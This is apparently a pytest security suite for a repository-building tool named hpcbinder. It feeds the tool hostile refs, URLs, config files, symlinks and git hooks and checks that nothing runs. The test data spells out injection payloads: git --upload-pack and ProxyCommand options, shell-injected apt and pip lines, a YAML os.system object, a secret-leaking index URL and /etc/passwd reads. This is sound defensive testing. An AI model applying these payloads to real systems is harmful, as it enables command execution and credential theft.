"""Hostile repositories, refs and options, through the command line: one line, nothing executed, nothing left.

Each case plants a canary (a file that only executed code could make) and watches a socket that only code, or a fetch
that the repository asked for, could reach.
"""

from __future__ import annotations

import os
import socket
import subprocess
import sys
import threading
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path

import pytest


@dataclass
class Trap:
    """A folder to work in, a canary that must not appear, a port that must not be called."""

    folder: Path
    port: int
    calls: list[str] = field(default_factory=list)

    @property
    def canary(self) -> Path:
        return self.folder / "canary"

    @property
    def repository(self) -> Path:
        path = self.folder / "repository"
        path.mkdir(exist_ok=True)
        return path

    def hpcbinder(self, *arguments: str) -> subprocess.CompletedProcess[str]:
        scratch = self.folder / "scratch"
        scratch.mkdir(exist_ok=True)
        environment = {
            "PATH": os.environ["PATH"],
            "HOME": str(self.folder / "home"),
            "TMPDIR": str(scratch),
            "SECRET": "hunter2",
            "LANG": "C.UTF-8",
        }
        command = [sys.executable, "-m", "hpcbinder", "--store", str(self.folder / "store"), *arguments]
        return subprocess.run(command, env=environment, cwd=self.folder, capture_output=True, text=True, timeout=120)

    def refused(self, *arguments: str, code: int) -> str:
        """The message of a call that must fail with this exit code, in one line, leaving nothing."""
        done = self.hpcbinder(*arguments)
        assert done.returncode == code, done.stderr
        *progress, message = done.stderr.splitlines()
        assert message.startswith("hpcbinder: ")
        assert all(line.startswith("[") for line in progress), done.stderr
        assert "Traceback" not in done.stderr
        assert "hunter2" not in done.stdout + done.stderr
        assert done.stdout == ""
        self.untouched()
        return message

    def untouched(self) -> None:
        assert not self.canary.exists()
        assert not self.calls
        assert not any((self.folder / "scratch").iterdir())
        store = self.folder / "store"
        left = [p for p in store.rglob("*") if p.is_file() and "locks" not in p.parts] if store.exists() else []
        assert [p.name for p in left if p.name not in ("VERSION", "version")] == []


@pytest.fixture
def trap(tmp_path: Path) -> Iterator[Trap]:
    listener = socket.create_server(("127.0.0.1", 0))
    made = Trap(tmp_path, listener.getsockname()[1])

    def watch() -> None:
        while True:
            try:
                connection, peer = listener.accept()
            except OSError:
                return
            made.calls.append(str(peer))
            connection.close()

    thread = threading.Thread(target=watch, daemon=True)
    thread.start()
    yield made
    listener.shutdown(socket.SHUT_RDWR)
    listener.close()
    thread.join()


def git(folder: Path, *arguments: str, stdin: bytes = b"") -> None:
    environment = {**os.environ, "GIT_CONFIG_GLOBAL": os.devnull}
    for role in ("AUTHOR", "COMMITTER"):
        environment |= {f"GIT_{role}_NAME": "a", f"GIT_{role}_EMAIL": "a@b.invalid"}
    subprocess.run(["git", *arguments], cwd=folder, env=environment, input=stdin, check=True, capture_output=True)


def commit(folder: Path) -> str:
    """Commit a folder's files; its file URL."""
    git(folder, "init", "-q", "-b", "main")
    git(folder, "add", "-A")
    git(folder, "commit", "-q", "--allow-empty", "-m", "x")
    return f"file://{folder}"


BOTH = pytest.mark.parametrize("verb", ["plan", "build"])


@BOTH
def test_a_ref_that_is_an_option(trap: Trap, verb: str) -> None:
    url = commit(trap.repository)
    message = trap.refused(verb, url, "--ref", f"--upload-pack=touch {trap.canary}", code=2)
    assert "ref" in message


@BOTH
@pytest.mark.parametrize(
    "url",
    [
        "ext::sh -c touch% {canary}",
        "--upload-pack=touch {canary}",
        "-oProxyCommand=touch {canary}",
        "ssh://-oProxyCommand=touch${{IFS}}{canary}/x",
        "git@-oProxyCommand=touch:x",
        "fd::17",
        "https://example.invalid/a\nb",
    ],
)
def test_a_url_that_is_an_option_or_a_helper(trap: Trap, verb: str, url: str) -> None:
    trap.refused(verb, "--", url.format(canary=trap.canary), code=2)


@BOTH
@pytest.mark.parametrize("subdir", ["../..", "/etc", "a/../..", "link", "nowhere"])
def test_a_subdir_outside(trap: Trap, verb: str, subdir: str) -> None:
    (trap.repository / "link").symlink_to("/etc")
    done = trap.hpcbinder(verb, commit(trap.repository), "--subdir", subdir)
    assert done.returncode in (2, 3), done.stderr
    assert done.stderr.splitlines()[-1].startswith("hpcbinder: ")
    assert "/etc" not in done.stdout
    trap.untouched()


@BOTH
@pytest.mark.parametrize(
    ("name", "text", "says"),
    [
        ("apt.txt", "sox\ncurl; touch {canary}\n", "apt.txt:2"),
        ("apt.txt", "$(touch {canary})\n", "apt.txt:1"),
        ("apt.txt", "--option=Dpkg::Pre-Invoke::=touch {canary}\n", "apt.txt:1"),
        ("requirements.txt", "numpy\nhttps://127.0.0.1:{port}/${{SECRET}}/x.whl\n", "requirements.txt:2"),
        ("requirements.txt", "-r ../../../etc/passwd\n", "requirements.txt:1"),
        ("requirements.txt", "-r http://127.0.0.1:{port}/more.txt\n", "requirements.txt:1"),
        ("requirements.txt", "--index-url http://user:word@127.0.0.1:{port}/simple\n", "requirements.txt:1"),
        ("requirements.txt", "numpy; touch {canary}\n", "requirements.txt:1"),
        ("requirements.txt", "num\x00py\n", "requirements.txt:1"),
        ("pyproject.toml", "[project\nname = 'x'\n", "pyproject.toml:1"),
        ("runtime.txt", "python-3.11; touch {canary}\n", "runtime.txt"),
        ("runtime.txt", "python-2.7\n", "runtime.txt"),
        ("environment.yml", "dependencies: [!!python/object/apply:os.system ['touch {canary}']]\n", "environment.yml"),
    ],
)
def test_config_files(trap: Trap, verb: str, name: str, text: str, says: str) -> None:
    (trap.repository / name).write_text(text.format(canary=trap.canary, port=trap.port))
    assert says in trap.refused(verb, str(trap.repository), code=4)


@BOTH
@pytest.mark.parametrize("name", ["requirements.txt", "apt.txt", "postBuild", "start", "runtime.txt", "pyproject.toml"])
def test_a_config_file_that_is_a_link_out_of_the_tree(trap: Trap, verb: str, name: str) -> None:
    (trap.folder / "outside").write_text("root:x:0:0\n")
    (trap.repository / name).symlink_to("../outside")
    message = trap.refused(verb, str(trap.repository), code=4)
    assert name in message
    assert "root:x" not in message


@BOTH
def test_a_binder_folder_that_is_a_link_out_of_the_tree(trap: Trap, verb: str) -> None:
    (trap.folder / "outside").mkdir()
    (trap.folder / "outside" / "requirements.txt").write_text("numpy\n")
    (trap.repository / "binder").symlink_to("../outside")
    assert "binder" in trap.refused(verb, str(trap.repository), code=4)


@BOTH
def test_a_folder_ten_thousand_levels_deep(trap: Trap, verb: str) -> None:
    descriptor = os.open(trap.repository, os.O_RDONLY)
    for _ in range(10_000):
        os.mkdir("d", dir_fd=descriptor)
        below = os.open("d", os.O_RDONLY, dir_fd=descriptor)
        os.close(descriptor)
        descriptor = below
    os.close(descriptor)
    try:
        assert "deep" in trap.refused(verb, str(trap.repository), code=4)
    finally:
        subprocess.run(["rm", "-rf", str(trap.repository)], check=True)


@BOTH
def test_a_commit_ten_thousand_levels_deep(trap: Trap, verb: str) -> None:
    git(trap.repository, "init", "-q", "-b", "main")
    path = "d/" * 10_000 + "f"
    stream = f"commit refs/heads/main\ncommitter a <a@b.invalid> 0 +0000\ndata 0\nM 644 inline {path}\ndata 0\n"
    git(trap.repository, "fast-import", "--quiet", stdin=stream.encode())
    trap.refused(verb, f"file://{trap.repository}", code=3)


def test_file_names_with_line_ends_quotes_and_terminal_commands_are_only_names(trap: Trap) -> None:
    for name in ("a\nRUN touch x", 'quote" "', "esc\x1b[2J", "back\\slash", "$(touch canary)"):
        (trap.repository / name).write_text("x")
    for form in ("text", "json", "dockerfile"):
        done = trap.hpcbinder("plan", str(trap.repository), "--format", form)
        assert done.returncode == 0, done.stderr
        assert "\x1b" not in done.stdout
        assert not any(line.startswith("RUN touch x") for line in done.stdout.splitlines())
    trap.untouched()


def test_a_local_folders_own_git_config_runs_nothing(trap: Trap) -> None:
    (trap.repository / "a.py").write_text("")
    commit(trap.repository)
    hook = trap.folder / "hook"
    hook.write_text(f"#!/bin/sh\ntouch {trap.canary}\n")
    hook.chmod(0o755)
    for key in (
        "core.fsmonitor",
        "filter.x.clean",
        "filter.x.smudge",
        "core.sshCommand",
        "diff.external",
        "core.pager",
    ):
        git(trap.repository, "config", key, str(hook))
    (trap.repository / ".gitattributes").write_text("* filter=x\n")
    assert trap.hpcbinder("plan", str(trap.repository)).returncode == 0
    trap.untouched()


@pytest.mark.parametrize("name", ["setup.py", "conftest.py", "sitecustomize.py", "hpcbinder.py", "usercustomize.py"])
def test_planning_runs_no_python_of_the_repository(trap: Trap, name: str) -> None:
    (trap.repository / name).write_text(f"open({str(trap.canary)!r}, 'w')\n")
    assert trap.hpcbinder("plan", str(trap.repository)).returncode == 0
    trap.untouched()


def test_unknown_ids_and_path_tricks(trap: Trap) -> None:
    for id_ in ("../../etc", "nothing", "/etc/passwd", "a/b", "-x"):
        for verb in ("show", "rm", "unregister"):
            done = trap.hpcbinder(verb, "--", id_)
            assert done.returncode == 8, (verb, id_, done.stderr)
            assert len(done.stderr.splitlines()) == 1
